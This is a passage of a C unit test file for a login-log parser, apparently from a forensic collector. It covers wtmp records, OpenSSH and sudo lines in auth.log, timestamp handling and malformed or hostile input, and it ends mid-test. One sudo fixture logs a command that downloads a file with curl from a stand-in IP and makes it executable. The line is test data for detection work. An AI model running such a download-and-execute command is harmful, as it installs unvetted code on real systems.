/*
 * test_login_parse.c - collect/login_parse.c and collect/logins.c: wtmp
 * records built with glibc's own struct utmp (the fixed layout must be
 * <utmp.h>'s), hostile records, the sshd and sudo lines OpenSSH and sudo
 * write to auth.log, syslog stamps without a year and RFC 3339 ones, and
 * the collector on an image tree (caps, order, a missing or unreadable
 * log).
 */
#include <time.h>
#include <utmp.h>

#include "collect/login_parse.h"
#include "testlib.h"

#define FP1 "SHA256:4fScmOar4GLDeXbSV9R3O286bqcq/DHCaDZy+w7iKRs"
#define T_NOV28 1795839153     /* 2026-11-28T04:12:33Z */

static void
assert_str(struct lp_str s, const char *want)
{
	if (want == NULL) {
		assert_null(s.p);
		return;
	}
	assert_non_null(s.p);
	assert_int_equal(s.n, strlen(want));
	assert_memory_equal(s.p, want, s.n);
}

/* ---- wtmp ---------------------------------------------------------------- */

static void
test_layout(void **state)
{
	(void)state;
	assert_int_equal(sizeof(struct utmp), WTMP_REC_SIZE);
	assert_int_equal(offsetof(struct utmp, ut_type), WTMP_OFF_TYPE);
	assert_int_equal(offsetof(struct utmp, ut_pid), WTMP_OFF_PID);
	assert_int_equal(offsetof(struct utmp, ut_line), WTMP_OFF_LINE);
	assert_int_equal(sizeof(((struct utmp *)0)->ut_line), WTMP_LINE_LEN);
	assert_int_equal(offsetof(struct utmp, ut_id), WTMP_OFF_ID);
	assert_int_equal(offsetof(struct utmp, ut_user), WTMP_OFF_USER);
	assert_int_equal(sizeof(((struct utmp *)0)->ut_user), WTMP_USER_LEN);
	assert_int_equal(offsetof(struct utmp, ut_host), WTMP_OFF_HOST);
	assert_int_equal(sizeof(((struct utmp *)0)->ut_host), WTMP_HOST_LEN);
	assert_int_equal(offsetof(struct utmp, ut_exit), WTMP_OFF_EXIT);
	assert_int_equal(offsetof(struct utmp, ut_session), WTMP_OFF_SESSION);
	assert_int_equal(offsetof(struct utmp, ut_tv), WTMP_OFF_TV_SEC);
	assert_int_equal(offsetof(struct utmp, ut_tv) +
	    sizeof(((struct utmp *)0)->ut_tv.tv_sec), WTMP_OFF_TV_USEC);
	assert_int_equal(offsetof(struct utmp, ut_addr_v6), WTMP_OFF_ADDR);
	assert_int_equal(USER_PROCESS, WTMP_USER_PROCESS);
	assert_int_equal(DEAD_PROCESS, WTMP_DEAD_PROCESS);
	assert_int_equal(BOOT_TIME, WTMP_BOOT_TIME);
	assert_int_equal(ACCOUNTING, WTMP_TYPE_MAX);
}

static struct utmp
ut(short type, pid_t pid, const char *line, const char *user,
   const char *host, int32_t sec, int32_t usec)
{
	struct utmp u;

	memset(&u, 0, sizeof(u));
	u.ut_type = type;
	u.ut_pid = pid;
	if (line)
		memcpy(u.ut_line, line, strnlen(line, sizeof(u.ut_line)));
	if (user)
		memcpy(u.ut_user, user, strnlen(user, sizeof(u.ut_user)));
	if (host)
		memcpy(u.ut_host, host, strnlen(host, sizeof(u.ut_host)));
	u.ut_tv.tv_sec = sec;
	u.ut_tv.tv_usec = usec;
	return u;
}

/* Parse a heap copy of exactly n bytes (ASan sees an over-read). */
static enum lp_result
wtmp(const void *rec, size_t n, struct login_rec *r, unsigned char **keep)
{
	unsigned char *b = xmalloc(n ? n : 1);

	memcpy(b, rec, n);
	*keep = b;
	return loginparse_wtmp(b, n, r);
}

static void
test_wtmp_records(void **state)
{
	struct login_rec r;
	struct utmp u;
	unsigned char *b;

	(void)state;
	u = ut(USER_PROCESS, 1234, "pts/0", "root", "203.0.113.5", T_NOV28,
	    123456);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_SESSION);
	assert_int_equal(r.time, T_NOV28);
	assert_int_equal(r.usec, 123456);
	assert_int_equal(r.pid, 1234);
	assert_int_equal(r.tz, LTZ_UTC);
	assert_str(r.user, "root");
	assert_str(r.line, "pts/0");
	assert_str(r.from, "203.0.113.5");
	assert_str(r.method, NULL);
	assert_str(r.key_fp, NULL);
	free(b);

	/* a local login: no host */
	u = ut(USER_PROCESS, 601, "tty1", "alice", NULL, T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_str(r.from, NULL);
	assert_str(r.line, "tty1");
	free(b);

	/* the logout: Linux leaves ut_user empty */
	u = ut(DEAD_PROCESS, 1234, "pts/0", NULL, NULL, T_NOV28 + 60, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_LOGOUT);
	assert_str(r.user, NULL);
	assert_str(r.line, "pts/0");
	free(b);

	/* the boot record: "reboot" on "~", the kernel release as host */
	u = ut(BOOT_TIME, 0, "~", "reboot", "6.1.0-18-amd64", T_NOV28 - 600,
	    0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_BOOT);
	assert_str(r.detail, "6.1.0-18-amd64");
	assert_str(r.user, NULL);
	assert_str(r.line, NULL);
	free(b);

	/* valid types of no interest */
	u = ut(LOGIN_PROCESS, 600, "tty1", "LOGIN", NULL, T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_IGNORED);
	free(b);
	u = ut(RUN_LVL, 53, "~", "runlevel", "6.1.0", T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_IGNORED);
	free(b);
	memset(&u, 0, sizeof(u));
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_IGNORED);
	free(b);

	/* no ut_host, an address: IPv4 in the first word, else IPv6 */
	u = ut(USER_PROCESS, 77, "pts/1", "bob", NULL, T_NOV28, 0);
	inet_pton(AF_INET, "198.51.100.7", &u.ut_addr_v6[0]);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_str(r.from, "198.51.100.7");
	free(b);
	u = ut(USER_PROCESS, 77, "pts/1", "bob", NULL, T_NOV28, 0);
	inet_pton(AF_INET6, "2001:db8::5", u.ut_addr_v6);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_str(r.from, "2001:db8::5");
	free(b);
}

static void
test_wtmp_hostile(void **state)
{
	struct login_rec r;
	struct utmp u;
	unsigned char *b;

	(void)state;
	/* no NUL anywhere: each field is its array, not one byte more */
	u = ut(USER_PROCESS, 1, NULL, NULL, NULL, T_NOV28, 0);
	memset(u.ut_line, 'L', sizeof(u.ut_line));
	memset(u.ut_id, 'I', sizeof(u.ut_id));
	memset(u.ut_user, 'U', sizeof(u.ut_user));
	memset(u.ut_host, 'H', sizeof(u.ut_host));
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	assert_int_equal(r.line.n, 32);
	assert_int_equal(r.user.n, 32);
	assert_int_equal(r.from.n, 256);
	assert_true((const unsigned char *)r.line.p == b + WTMP_OFF_LINE);
	assert_true((const unsigned char *)r.user.p == b + WTMP_OFF_USER);
	assert_true((const unsigned char *)r.from.p == b + WTMP_OFF_HOST);
	assert_null(memchr(r.user.p, 'I', r.user.n));
	free(b);

	/* a huge or negative pid */
	u = ut(USER_PROCESS, 0x7fffffff, "pts/0", "root", "x", T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	u = ut(USER_PROCESS, -5, "pts/0", "root", "x", T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	u = ut(USER_PROCESS, (pid_t)LP_PID_MAX, "pts/0", "root", "x",
	    T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_EVENT);
	free(b);
	/* a negative time, microseconds out of range */
	u = ut(USER_PROCESS, 5, "pts/0", "root", "x", -1, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	u = ut(USER_PROCESS, 5, "pts/0", "root", "x", T_NOV28, 1000000);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	u = ut(USER_PROCESS, 5, "pts/0", "root", "x", T_NOV28, -1);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	/* a type out of range */
	u = ut(10, 5, "pts/0", "root", "x", T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	u = ut(-1, 5, "pts/0", "root", "x", T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u), &r, &b), LP_CORRUPT);
	free(b);
	/* a short (final) record */
	u = ut(USER_PROCESS, 5, "pts/0", "root", "x", T_NOV28, 0);
	assert_int_equal(wtmp(&u, sizeof(u) - 1, &r, &b), LP_CORRUPT);
	free(b);
	assert_int_equal(loginparse_wtmp(NULL, 0, &r), LP_CORRUPT);
}

/* ---- syslog lines ------------------------------------------------------ */

static const struct lp_clock utc2026 = { 2026, 11, false, LTZ_ASSUMED_UTC };

static enum lp_result
sl(const char *text, const struct lp_clock *ck, struct login_rec *r,
   char **keep)
{
	size_t n = strlen(text);
	char *b = xmalloc(n ? n : 1);

	memcpy(b, text, n);
	*keep = b;
	return loginparse_syslog(b, n, ck, r);
}

static void
test_sshd_accepted(void **state)
{
	struct login_rec r;
	char *b;

	(void)state;
	assert_int_equal(sl("Nov 28 04:12:33 web1 sshd[1234]: Accepted "
	    "publickey for root from 203.0.113.5 port 52144 ssh2: ED25519 "
	    FP1, &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_ACCEPTED);
	assert_int_equal(r.time, T_NOV28);
	assert_int_equal(r.usec, 0);
	assert_int_equal(r.tz, LTZ_ASSUMED_UTC);
	assert_int_equal(r.pid, 1234);
	assert_int_equal(r.port, 52144);
	assert_false(r.invalid_user);
	assert_str(r.user, "root");
	assert_str(r.from, "203.0.113.5");
	assert_str(r.method, "publickey");
	assert_str(r.key_fp, FP1);
	assert_str(r.line, NULL);
	free(b);

	assert_int_equal(sl("Nov 28 04:12:33 web1 sshd[88]: Accepted password "
	    "for alice from 192.0.2.10 port 4000 ssh2", &utc2026, &r, &b),
	    LP_EVENT);
	assert_str(r.method, "password");
	assert_str(r.user, "alice");
	assert_str(r.key_fp, NULL);
	free(b);

	/* keyboard-interactive/pam, IPv6, sshd-session (OpenSSH 9.8+) */
	assert_int_equal(sl("Nov 28 04:12:33 web1 sshd-session[9]: Accepted "
	    "keyboard-interactive/pam for bob from 2001:db8::1 port 5555 ssh2",
	    &utc2026, &r, &b), LP_EVENT);
	assert_str(r.method, "keyboard-interactive");
	assert_str(r.from, "2001:db8::1");
	assert_int_equal(r.port, 5555);
	assert_int_equal(r.pid, 9);
	free(b);

	/* an old MD5 fingerprint is not kept; a certificate's key is */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Accepted publickey for "
	    "root from 10.0.0.1 port 22 ssh2: RSA 3b:2c:11:aa:bb:cc:dd:ee:ff:00:"
	    "11:22:33:44:55:66", &utc2026, &r, &b), LP_EVENT);
	assert_str(r.key_fp, NULL);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Accepted publickey for "
	    "deploy from 10.0.0.1 port 22 ssh2: ED25519-CERT " FP1 " ID ci "
	    "(serial 7) CA ED25519 SHA256:xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
	    "xxxxx", &utc2026, &r, &b), LP_EVENT);
	assert_str(r.key_fp, FP1);
	assert_str(r.user, "deploy");
	free(b);
	/* a fingerprint one character short is not one */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Accepted publickey for "
	    "root from 10.0.0.1 port 22 ssh2: ED25519 SHA256:4fScmOar4GLDeXbSV9R"
	    "3O286bqcq/DHCaDZy+w7iKR", &utc2026, &r, &b), LP_EVENT);
	assert_str(r.key_fp, NULL);
	free(b);
	/* a name as host (UseDNS yes) */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Accepted password for "
	    "root from vpn.example.net port 1022 ssh2", &utc2026, &r, &b),
	    LP_EVENT);
	assert_str(r.from, "vpn.example.net");
	free(b);
	/* rsyslog's repeat wrapper */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: message repeated 2 "
	    "times: [ Failed password for root from 10.0.0.9 port 22 ssh2]",
	    &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_FAILED);
	assert_str(r.from, "10.0.0.9");
	free(b);

	/* malformed Accepted lines are corrupt, not a login */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Accepted password for "
	    "root from 10.0.0.1 port 99999 ssh2", &utc2026, &r, &b),
	    LP_CORRUPT);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Accepted password for "
	    "root", &utc2026, &r, &b), LP_CORRUPT);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[99999999999]: Accepted "
	    "password for root from 1.2.3.4 port 2 ssh2", &utc2026, &r, &b),
	    LP_CORRUPT);
	free(b);
	/* another program saying the same words is not sshd */
	assert_int_equal(sl("Nov 28 04:12:33 h evil[5]: Accepted password for "
	    "root from 10.0.0.1 port 22 ssh2", &utc2026, &r, &b), LP_IGNORED);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: Server listening on "
	    "0.0.0.0 port 22.", &utc2026, &r, &b), LP_IGNORED);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[5]: pam_unix(sshd:session):"
	    " session opened for user root(uid=0) by (uid=0)", &utc2026, &r,
	    &b), LP_IGNORED);
	free(b);
}

static void
test_sshd_failed(void **state)
{
	struct login_rec r;
	char *b;

	(void)state;
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Invalid user admin "
	    "from 198.51.100.23 port 40022", &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_FAILED);
	assert_true(r.invalid_user);
	assert_str(r.user, "admin");
	assert_str(r.from, "198.51.100.23");
	assert_int_equal(r.port, 40022);
	assert_str(r.method, NULL);
	free(b);
	/* OpenSSH before 7.x: no port */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Invalid user oracle "
	    "from 198.51.100.23", &utc2026, &r, &b), LP_EVENT);
	assert_str(r.from, "198.51.100.23");
	assert_int_equal(r.port, 0);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Failed password for "
	    "invalid user admin from 198.51.100.23 port 40022 ssh2", &utc2026,
	    &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_FAILED);
	assert_true(r.invalid_user);
	assert_str(r.user, "admin");
	assert_str(r.method, "password");
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Failed password for "
	    "root from 2001:db8:1::9 port 3 ssh2", &utc2026, &r, &b), LP_EVENT);
	assert_false(r.invalid_user);
	assert_str(r.user, "root");
	assert_str(r.from, "2001:db8:1::9");
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Failed publickey for "
	    "git from 192.0.2.4 port 3 ssh2: RSA " FP1, &utc2026, &r, &b),
	    LP_EVENT);
	assert_str(r.key_fp, FP1);
	assert_str(r.method, "publickey");
	free(b);
	/* the client picks the name: spaces and a fake tail in it */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Failed password for "
	    "invalid user a from 9.9.9.9 port 1 ssh2 from 192.0.2.77 port 6 "
	    "ssh2", &utc2026, &r, &b), LP_EVENT);
	assert_str(r.user, "a from 9.9.9.9 port 1 ssh2");
	assert_str(r.from, "192.0.2.77");
	assert_int_equal(r.port, 6);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[41]: Invalid user  from "
	    "192.0.2.1 port 22", &utc2026, &r, &b), LP_EVENT);
	assert_str(r.user, NULL);
	free(b);
	/* "Connection closed by authenticating user": a key offered and
	 * the client gone (what a key scanner leaves) */
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[77]: Connection closed by "
	    "authenticating user root 203.0.113.9 port 51234 [preauth]",
	    &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_FAILED);
	assert_false(r.invalid_user);
	assert_str(r.user, "root");
	assert_str(r.from, "203.0.113.9");
	assert_int_equal(r.port, 51234);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[77]: Connection closed by "
	    "invalid user test user 2001:db8::3 port 5 [preauth]", &utc2026, &r,
	    &b), LP_EVENT);
	assert_true(r.invalid_user);
	assert_str(r.user, "test user");
	assert_str(r.from, "2001:db8::3");
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[77]: Disconnected from user "
	    "alice 192.0.2.10 port 4000", &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_LOGOUT);
	assert_str(r.user, "alice");
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[77]: Connection closed by "
	    "192.0.2.10 port 4000 [preauth]", &utc2026, &r, &b), LP_IGNORED);
	free(b);
	assert_int_equal(sl("Nov 28 04:12:33 h sshd[77]: Connection closed by "
	    "authenticating user root port 5 [preauth]", &utc2026, &r, &b),
	    LP_CORRUPT);
	free(b);
}

static void
test_sudo(void **state)
{
	struct login_rec r;
	char *b;

	(void)state;
	assert_int_equal(sl("Nov 28 04:20:01 h sudo:    alice : TTY=pts/0 ; "
	    "PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x "
	    "http://198.51.100.2/x ; chmod +x /tmp/x", &utc2026, &r, &b),
	    LP_EVENT);
	assert_int_equal(r.kind, LOGIN_SUDO);
	assert_str(r.user, "alice");
	assert_str(r.target, "root");
	assert_str(r.line, "pts/0");
	assert_str(r.detail, "/usr/bin/curl -o /tmp/x http://198.51.100.2/x ; "
	    "chmod +x /tmp/x");
	assert_int_equal(r.pid, 0);
	free(b);
	assert_int_equal(sl("Nov 28 04:20:01 h sudo[4242]: bob : TTY=unknown ; "
	    "PWD=/ ; USER=postgres ; COMMAND=/bin/sh", &utc2026, &r, &b),
	    LP_EVENT);
	assert_str(r.line, NULL);
	assert_int_equal(r.pid, 4242);
	free(b);
	assert_int_equal(sl("Nov 28 04:20:01 h sudo:      www-data : user NOT "
	    "in sudoers ; TTY=pts/1 ; PWD=/var/www ; USER=root ; COMMAND=/bin/"
	    "bash", &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_SUDO_DENIED);
	assert_str(r.user, "www-data");
	assert_str(r.detail, "/bin/bash");
	free(b);
	assert_int_equal(sl("Nov 28 04:20:01 h sudo:    alice : 3 incorrect "
	    "password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/"
	    "id", &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.kind, LOGIN_SUDO_DENIED);
	free(b);
	assert_int_equal(sl("Nov 28 04:20:01 h sudo: pam_unix(sudo:session): "
	    "session opened for user root(uid=0) by alice(uid=1000)", &utc2026,
	    &r, &b), LP_IGNORED);
	free(b);
	assert_int_equal(sl("Nov 28 04:20:01 h sudo:    alice : TTY=pts/0 ; "
	    "PWD=/", &utc2026, &r, &b), LP_IGNORED);
	free(b);
}

static void
test_stamps(void **state)
{
	static const struct lp_clock jan = { 2027, 1, false, LTZ_ASSUMED_UTC };
	struct login_rec r;
	char *b;

	(void)state;
	/* the year rule: December in a file written in January */
	assert_int_equal(loginparse_year(&jan, 12), 2026);
	assert_int_equal(loginparse_year(&jan, 1), 2027);
	assert_int_equal(sl("Dec 31 23:59:59 h sshd[1]: Accepted password for a"
	    " from 192.0.2.1 port 2 ssh2", &jan, &r, &b), LP_EVENT);
	assert_int_equal(r.time, 1767225599 + 365 * 86400);
	free(b);
	{
		static const struct lp_clock jan26 = { 2026, 1, false,
			LTZ_ASSUMED_UTC };

		assert_int_equal(sl("Dec 31 23:59:59 h sshd[1]: Accepted "
		    "password for a from 192.0.2.1 port 2 ssh2", &jan26, &r,
		    &b), LP_EVENT);
		assert_int_equal(r.time, 1767225599);
		free(b);
		assert_int_equal(sl("Jan  2 03:04:05 h sshd[1]: Accepted "
		    "password for a from 192.0.2.1 port 2 ssh2", &jan26, &r,
		    &b), LP_EVENT);
		assert_int_equal(r.time, 1767323045);
		free(b);
	}
	/* a space-padded day */
	assert_int_equal(sl("Nov  1 04:12:33 h sshd[1]: Accepted password for a"
	    " from 192.0.2.1 port 2 ssh2", &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.time, 1793506353);
	free(b);
	/* impossible dates and times */
	assert_int_equal(sl("Feb 30 04:12:33 h sshd[1]: Accepted password for a"
	    " from 192.0.2.1 port 2 ssh2", &utc2026, &r, &b), LP_CORRUPT);
	free(b);
	assert_int_equal(sl("Nov 28 24:12:33 h sshd[1]: x", &utc2026, &r, &b),
	    LP_CORRUPT);
	free(b);
	assert_int_equal(sl("Foo 28 04:12:33 h sshd[1]: x", &utc2026, &r, &b),
	    LP_CORRUPT);
	free(b);
	assert_int_equal(sl("Nov 28 04:12", &utc2026, &r, &b), LP_CORRUPT);
	free(b);

	/* RFC 3339 (rsyslog's RSYSLOG_FileFormat): the offset is applied */
	assert_int_equal(sl("2026-11-28T04:12:33.123456+00:00 h sshd[7]: "
	    "Accepted password for a from 192.0.2.1 port 2 ssh2", &jan, &r, &b),
	    LP_EVENT);
	assert_int_equal(r.time, T_NOV28);
	assert_int_equal(r.usec, 123456);
	assert_int_equal(r.tz, LTZ_UTC);
	free(b);
	assert_int_equal(sl("2026-11-28T05:42:33.5+01:30 h sshd[7]: Accepted "
	    "password for a from 192.0.2.1 port 2 ssh2", &jan, &r, &b),
	    LP_EVENT);
	assert_int_equal(r.time, T_NOV28);
	assert_int_equal(r.usec, 500000);
	free(b);
	assert_int_equal(sl("2026-11-27T23:12:33-05:00 h sshd[7]: Accepted "
	    "password for a from 192.0.2.1 port 2 ssh2", &jan, &r, &b),
	    LP_EVENT);
	assert_int_equal(r.time, T_NOV28);
	free(b);
	assert_int_equal(sl("2024-02-29T12:00:00Z h sshd[7]: Accepted password"
	    " for a from 192.0.2.1 port 2 ssh2", &jan, &r, &b), LP_EVENT);
	assert_int_equal(r.time, 1709208000);
	free(b);
	assert_int_equal(sl("2026-11-28T04:12:33 h sshd[7]: x", &jan, &r, &b),
	    LP_CORRUPT);   /* no zone */
	free(b);
	assert_int_equal(sl("2025-02-29T12:00:00Z h sshd[7]: x", &jan, &r, &b),
	    LP_CORRUPT);
	free(b);
	assert_int_equal(sl("2026-11-28T04:12:33.+00:00 h sshd[7]: x", &jan, &r,
	    &b), LP_CORRUPT);
	free(b);

	/* the live host: its own zone (here set to one an hour east) */
	{
		static const struct lp_clock loc = { 2026, 11, true,
			LTZ_LOCAL };
		char *old = getenv("TZ") ? xstrdup(getenv("TZ")) : NULL;

		setenv("TZ", "CET-1", 1);
		tzset();
		assert_int_equal(sl("Nov 28 05:12:33 h sshd[1]: Accepted "
		    "password for a from 192.0.2.1 port 2 ssh2", &loc, &r, &b),
		    LP_EVENT);
		assert_int_equal(r.time, T_NOV28);
		assert_int_equal(r.tz, LTZ_LOCAL);
		free(b);
		if (old)
			setenv("TZ", old, 1);
		else
			unsetenv("TZ");
		tzset();
		free(old);
	}
}

static void
test_long_lines(void **state)
{
	size_t n = 100 * 1024;
	struct login_rec r;
	char *line = xmalloc(n + 1), *b;
	const char *head = "Nov 28 04:12:33 h sshd[1]: Accepted password for ";
	const char *fhead = "Nov 28 04:12:33 h sshd[1]: Failed password for "
	    "invalid user ";
	const char *tail = " from 192.0.2.1 port 2 ssh2";

	(void)state;
	/* a user name of 100 KB: past the line cap, corrupt */
	memset(line, 'a', n);
	memcpy(line, head, strlen(head));
	memcpy(line + n - strlen(tail), tail, strlen(tail));
	line[n] = '\0';
	assert_int_equal(sl(line, &utc2026, &r, &b), LP_CORRUPT);
	free(b);
	/* the tail within the line cap, a user name above the field cap */
	memset(line, 'a', n);
	memcpy(line, fhead, strlen(fhead));
	memcpy(line + 4000, tail, strlen(tail));
	line[4000 + strlen(tail)] = '\0';
	assert_int_equal(sl(line, &utc2026, &r, &b), LP_CORRUPT);
	free(b);
	/* a long sudo command is cut at RM_LOGIN_CMD_MAX */
	memset(line, 'c', n);
	strcpy(line, "Nov 28 04:20:01 h sudo: alice : TTY=pts/0 ; PWD=/ ; "
	    "USER=root ; COMMAND=");
	line[strlen(line)] = 'c';
	line[n] = '\0';
	assert_int_equal(sl(line, &utc2026, &r, &b), LP_EVENT);
	assert_int_equal(r.detail.n, RM_LOGIN_CMD_MAX);
	free(b);
	/* binary noise */
	for (size_t i = 0; i < n; i++)
		line[i] = (char)(i * 131 + 7);
	line[n] = '\0';
	(void)sl(line, &utc2026, &r, &b);
	free(b);
	free(line);
	assert_true(loginparse_is_fp(FP1, strlen(FP1)));
	assert_false(loginparse_is_fp("SHA256:", 7));
	assert_string_equal(login_kind_name(LOGIN_SUDO_DENIED), "sudo_denied");
	assert_string_equal(login_kind_name(200), "unknown");
	assert_string_equal(login_source_name(LS_WTMP), "wtmp");
	assert_string_equal(login_tz_name(LTZ_ASSUMED_UTC), "assumed_utc");
}

/* ---- the collector on an image ---------------------------------------- */

static struct snapshot *
img_snap(const char *dir)
{
	struct snapshot *s = tl_snap_new();

	s->live = false;
	s->root = dir;
	s->rootfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(s->rootfd >= 0);
	return s;
}

static void
set_mtime(const char *dir, const char *rel, time_t t)
{
	char *p = tl_path(dir, rel);
	struct timespec ts[2] = { { t, 0 }, { t, 0 } };

	assert_int_equal(utimensat(AT_FDCWD, p, ts, 0), 0);
	free(p);
}

static void
test_collect_image(void **state)
{
	char *dir = tl_tmpdir();
	struct utmp u[4];
	unsigned char w[sizeof(u) + 100];
	struct snapshot *s;

	(void)state;
	/* nothing there: no note, nothing read */
	s = img_snap(dir);
	logins_collect(s);
	assert_int_equal(s->nlogins, 0);
	assert_false(s->logins_read);
	assert_int_equal(s->nskipped, 0);
	close(s->rootfd);
	tl_snap_free(s);

	u[0] = ut(BOOT_TIME, 0, "~", "reboot", "6.1.0-18-amd64", T_NOV28 - 900,
	    0);
	u[1] = ut(USER_PROCESS, 1300, "pts/0", "root", "203.0.113.5",
	    T_NOV28 + 1, 5);
	u[2] = ut(99, 1, "x", "y", "z", T_NOV28, 0);             /* corrupt */
	u[3] = ut(DEAD_PROCESS, 1300, "pts/0", NULL, NULL, T_NOV28 + 300, 0);
	memcpy(w, u, sizeof(u));
	memset(w + sizeof(u), 0x41, 100);      /* a short final record */
	tl_write(dir, "var/log/wtmp", w, sizeof(w));
	tl_writes(dir, "var/log/auth.log",
	    "Nov 28 04:12:30 web1 sshd[1299]: Failed password for root from "
	    "203.0.113.5 port 52143 ssh2\n"
	    "Nov 28 04:12:33 web1 sshd[1299]: Accepted publickey for root from "
	    "203.0.113.5 port 52144 ssh2: ED25519 " FP1 "\n"
	    "garbage without a stamp\n"
	    "Nov 28 04:12:40 web1 systemd[1]: Started session-4.scope.\n"
	    "Nov 28 04:15:00 web1 sudo:     root : TTY=pts/0 ; PWD=/root ; "
	    "USER=root ; COMMAND=/usr/bin/crontab -e\n");
	set_mtime(dir, "var/log/auth.log", T_NOV28 + 3600);
	/* the rotation is older and written in December of the year before:
	 * its "Nov" is 2025 */
	tl_writes(dir, "var/log/auth.log.1",
	    "Nov 28 04:12:33 web1 sshd[5]: Accepted password for old from "
	    "192.0.2.1 port 2 ssh2");
	set_mtime(dir, "var/log/auth.log.1", 1767225599 - 10 * 86400);
	/* secure is a directory: noted, not fatal */
	tl_mkdirs(dir, "var/log/secure");

	s = img_snap(dir);
	logins_collect(s);
	assert_true(s->logins_read);
	assert_false(s->logins_capped);
	assert_int_equal(s->parse_errors, 3);  /* wtmp 2, auth.log 1 */
	assert_true(tl_skipped(s, "/var/log/secure", "not a regular file"));
	assert_int_equal(s->nlogins, 7);
	for (size_t i = 1; i < s->nlogins; i++)
		assert_true(s->logins[i - 1].time <= s->logins[i].time);
	/* oldest: the rotated file's line, a year earlier */
	assert_int_equal(s->logins[0].time, T_NOV28 - 365 * 86400);
	assert_string_equal(s->logins[0].user, "old");
	assert_string_equal(s->logins[0].file, "/var/log/auth.log.1");
	assert_int_equal(s->logins[0].tz, LTZ_ASSUMED_UTC);
	assert_int_equal(s->logins[1].kind, LOGIN_BOOT);
	assert_string_equal(s->logins[1].detail, "6.1.0-18-amd64");
	assert_int_equal(s->logins[2].kind, LOGIN_FAILED);
	assert_int_equal(s->logins[3].kind, LOGIN_ACCEPTED);
	assert_string_equal(s->logins[3].key_fp, FP1);
	assert_int_equal(s->logins[3].pid, 1299);
	assert_int_equal(s->logins[3].source, LS_AUTHLOG);
	assert_string_equal(s->logins[3].file, "/var/log/auth.log");
	assert_int_equal(s->logins[4].kind, LOGIN_SESSION);
	assert_int_equal(s->logins[4].source, LS_WTMP);
	assert_int_equal(s->logins[4].usec, 5);
	assert_int_equal(s->logins[4].tz, LTZ_UTC);
	assert_string_equal(s->logins[4].line, "pts/0");
	assert_string_equal(s->logins[4].from, "203.0.113.5");
	assert_string_equal(s->logins[4].file, "/var/log/wtmp");
	assert_int_equal(s->logins[5].kind, LOGIN_SUDO);
	assert_string_equal(s->logins[5].detail, "/usr/bin/crontab -e");
	assert_int_equal(s->logins[6].kind, LOGIN_LOGOUT);
	close(s->rootfd);
	tl_snap_free(s);

	/* a link out of the image is not followed */
	tl_rmrf(dir);
	free(dir);
	dir = tl_tmpdir();
	{
		char *outside = tl_path(dir, "outside/auth.log");

		tl_writes(dir, "outside/auth.log", "Nov 28 04:12:33 h sshd[1]: "
		    "Accepted password for leak from 192.0.2.1 port 2 ssh2\n");
